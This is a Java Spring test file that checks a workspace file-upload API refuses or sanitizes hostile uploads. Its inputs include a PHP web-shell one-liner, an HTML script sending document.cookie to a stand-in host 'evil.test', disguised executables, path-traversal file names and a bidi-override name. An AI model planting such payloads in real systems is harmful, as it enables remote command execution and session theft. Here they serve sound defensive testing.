package io.clientworkspace.spring.web;

import io.clientworkspace.Actor;
import io.clientworkspace.file.FileAsset;
import io.clientworkspace.file.FileVersion;
import io.clientworkspace.member.WorkspaceRole;
import io.clientworkspace.workspace.Workspace;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockMultipartFile;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

import static io.clientworkspace.tck.SampleFiles.pdf;
import static io.clientworkspace.tck.SampleFiles.png;
import static io.clientworkspace.tck.SampleFiles.windowsExecutable;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Uploads an attacker or a buggy client might send: each is refused with a problem naming what is
 * wrong (never a 5xx), stores neither metadata nor bytes, or is stored under a safe name.
 */
class HostileUploadApiTest extends FileApiTestSupport {

    private Workspace workspace;
    private Actor client;

    @BeforeEach
    void workspaceWithAClient() {
        workspace = workspace(admin);
        client = clientMember(workspace, admin, WorkspaceRole.CLIENT_CONTRIBUTOR);
    }

    /** Blobs in the store's directory (the test's own and every other test's: compared before and after). */
    private long blobCount() throws Exception {
        Path root = ((io.clientworkspace.blob.FileSystemBlobStore) kit.blobStore()).root();
        try (Stream<Path> files = Files.walk(root)) {
            return files.filter(Files::isRegularFile).count();
        }
    }

    @Test
    void anExecutableNamedPdfIs400NamingTheDetectedTypeAndStoresNothing() throws Exception {
        mvc.perform(rawUpload(workspace, "invoice.pdf", "application/pdf", windowsExecutable()).with(as(client)))
                .andExpect(problem(400, "validation"))
                .andExpect(jsonPath("$.errors[0].field").value("content"))
                .andExpect(jsonPath("$.errors[0].message", containsString("application/x-msdownload")))
                .andExpect(jsonPath("$.detail", containsString("application/x-msdownload")));

        assertThat(filesOf(admin, workspace.id())).isEmpty();
    }

    @Test
    void anExecutableSentAsMultipartIsRefusedTheSameWay() throws Exception {
        mvc.perform(multipart(base(workspace) + "/files").file(new MockMultipartFile("file", "invoice.pdf",
                        "application/pdf", windowsExecutable())).with(as(client)))
                .andExpect(problem(400, "validation"))
                .andExpect(jsonPath("$.errors[0].message", containsString("application/x-msdownload")));

        assertThat(filesOf(admin, workspace.id())).isEmpty();
    }

    @Test
    void aRefusedUploadLeavesNoBlobBehind() throws Exception {
        long before = blobCount();

        mvc.perform(rawUpload(workspace, "invoice.pdf", "application/pdf", windowsExecutable()).with(as(client)))
                .andExpect(status().isBadRequest());
        mvc.perform(rawUpload(workspace, "notes.txt", "text/plain", "<?php system($_GET['c']); ?>\n"
                        .getBytes(StandardCharsets.US_ASCII)).with(as(client)))
                .andExpect(status().isBadRequest());

        assertThat(blobCount()).isEqualTo(before);
    }

    @Test
    void aPngNamedPdfIs400OnTheNameSayingWhatTheContentIs() throws Exception {
        mvc.perform(rawUpload(workspace, "contract.pdf", "application/pdf", png()).with(as(client)))
                .andExpect(problem(400, "validation"))
                .andExpect(jsonPath("$.errors[0].field").value("name"))
                .andExpect(jsonPath("$.errors[0].message", containsString("image/png")));

        assertThat(filesOf(admin, workspace.id())).isEmpty();
    }

    @Test
    void anHtmlPageIsNeverAcceptedWhateverTypeIsDeclared() throws Exception {
        byte[] html = "<!DOCTYPE html>\n<html><body><script>fetch('https://evil.test/?c='+document.cookie)</script></body></html>\n"
                .getBytes(StandardCharsets.US_ASCII);

        mvc.perform(rawUpload(workspace, "readme.txt", "text/plain", html).with(as(client)))
                .andExpect(problem(400, "validation"))
                .andExpect(jsonPath("$.errors[0].message", containsString("text/html")));

        assertThat(filesOf(admin, workspace.id())).isEmpty();
    }

    @Test
    void anEmptyUploadIs400OnTheContent() throws Exception {
        mvc.perform(rawUpload(workspace, "empty.pdf", "application/pdf", new byte[0]).with(as(client)))
                .andExpect(problem(400, "validation"))
                .andExpect(jsonPath("$.errors[0].field").value("content"))
                .andExpect(jsonPath("$.errors[0].message").value("is empty"));

        assertThat(filesOf(admin, workspace.id())).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
            "'../../etc/passwd.pdf', passwd.pdf",
            "'..\\..\\Windows\\System32\\report.pdf', report.pdf",
            "'/var/www/html/index.pdf', index.pdf",
            "'CON.pdf', _CON.pdf",
            "'report.pdf...', report.pdf"})
    void aNameWithAPathOrADeviceNameIsStoredSanitized(String hostile, String stored) throws Exception {
        String json = mvc.perform(rawUpload(workspace, hostile, "application/pdf", pdf("x")).with(as(client)))
                .andExpect(status().isCreated())
                .andExpect(jsonPath("$.name").value(stored))
                .andReturn().getResponse().getContentAsString();

        String id = read(json, "$.id");
        FileVersion version = kit.files().versions(admin, workspace.id(), io.clientworkspace.FileId.of(id)).get(0);
        assertThat(version.name()).isEqualTo(stored);
        assertThat(version.blobKey()).doesNotContain(stored).matches("[0-9a-f]{32}");
        String disposition = mvc.perform(get(base(workspace) + "/files/{id}/content", id).with(as(client)))
                .andReturn().getResponse().getHeader(HttpHeaders.CONTENT_DISPOSITION);
        assertThat(disposition).doesNotContain("/", "..\\");
    }

    @Test
    void aTraversalNameInContentDispositionIsSanitizedToo() throws Exception {
        mvc.perform(post(base(workspace) + "/files").with(as(client)).contentType("application/pdf")
                        .header(HttpHeaders.CONTENT_DISPOSITION, "attachment; filename*=UTF-8''..%2F..%2Fsecrets.pdf")
                        .content(pdf("x")))
                .andExpect(status().isCreated())
                .andExpect(jsonPath("$.name").value("secrets.pdf"));
    }

    @Test
    void aNameThatHidesItsExtensionWithABidiOverrideLosesTheOverride() throws Exception {
        mvc.perform(rawUpload(workspace, "invoice\u202Efdp.png", "image/png", png()).with(as(client)))
                .andExpect(status().isCreated())
                .andExpect(jsonPath("$.name").value("invoicefdp.png"));
    }

    @Test
    void anUploadWithoutANameIs400OnTheName() throws Exception {
        mvc.perform(post(base(workspace) + "/files").with(as(client)).contentType("application/pdf").content(pdf("x")))
                .andExpect(problem(400, "validation"))
                .andExpect(jsonPath("$.errors[0].field").value("name"));

        assertThat(filesOf(admin, workspace.id())).isEmpty();
    }

    @Test
    void aNameOfDotsOnlyIs400() throws Exception {
        mvc.perform(rawUpload(workspace, "..", "application/pdf", pdf("x")).with(as(client)))
                .andExpect(problem(400, "validation"))
                .andExpect(jsonPath("$.errors[0].field").value("name"));
    }

    @Test
    void aMultipartFormWithoutThePartFileIs400NamingIt() throws Exception {
        mvc.perform(multipart(base(workspace) + "/files").file(new MockMultipartFile("document", "a.pdf",
                        "application/pdf", pdf("x"))).with(as(client)))
                .andExpect(problem(400, "validation"))
                .andExpect(jsonPath("$.errors[0].field").value("file"));
    }

    @Test
    void aFormEncodedBodyIs415AndStoresNothing() throws Exception {
        mvc.perform(post(base(workspace) + "/files").queryParam("name", "a.txt").with(as(client))
                        .contentType(MediaType.APPLICATION_FORM_URLENCODED).content("a=b"))
                .andExpect(problem(415, "bad-request"));

        assertThat(filesOf(admin, workspace.id())).isEmpty();
    }

    @Test
    void anUnknownVisibilityIs400NamingTheChoices() throws Exception {
        mvc.perform(rawUpload(workspace, "a.pdf", "application/pdf", pdf("x")).queryParam("visibility", "PUBLIC")
                        .with(as(client)))
                .andExpect(problem(400, "validation"))
                .andExpect(jsonPath("$.errors[0].field").value("visibility"))
                .andExpect(jsonPath("$.errors[0].message", containsString("CLIENT, TEAM")));
    }

    @Test
    void aNewVersionThatIsAnExecutableIs400AndTheFileKeepsItsVersions() throws Exception {
        FileAsset file = file(admin, workspace, "logo.pdf", pdf("one"));

        mvc.perform(post(base(workspace) + "/files/{id}/versions", file.id().value()).with(as(client))
                        .contentType("application/pdf").content(windowsExecutable()))
                .andExpect(problem(400, "validation"));

        assertThat(versionsOf(admin, file)).extracting(FileVersion::number).containsExactly(1);
        assertThat(reread(admin, file)).isEqualTo(file);
    }
}
